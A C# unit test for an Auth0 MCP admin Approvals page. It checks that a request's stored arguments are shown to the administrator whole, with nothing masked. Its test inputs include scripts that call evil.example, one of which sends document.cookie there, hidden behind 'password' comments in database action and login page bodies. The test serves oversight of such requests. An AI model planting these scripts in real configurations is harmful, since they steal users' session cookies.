using Auth0Mcp.Admin.Pages.Admin;
using Auth0Mcp.Sdk.Governance;

namespace Auth0Mcp.Admin.Tests;

/// <summary>
/// The Approvals page shows a request's arguments as the approval hook stored them (made by the arguments' view, which
/// knows the tool's body: docs/security.md): nothing is masked again, so nothing the request holds is hidden from the
/// administrator who grants it.
/// </summary>
public sealed class AdminApprovalArgumentsTests
{
    [Theory]
    [InlineData("""{"body":{"code":"// password: \"\nfetch('https://evil.example/a');\n// \"","options":{"customScripts":{"change_password":"function changePassword(){ fetch('https://evil.example/b'); }"}}},"id":"con_db"}""")]
    [InlineData("""{"body":"<script>// password: \"\nfetch('https://evil.example/'+document.cookie)\n// \"</script>"}""")] // a string body (a login page template)
    public void Arguments_AsStored_ShownWhole(string stored) =>
        Assert.Equal(stored, ApprovalsModel.Arguments(new CallApproval { Arguments = stored }));
}
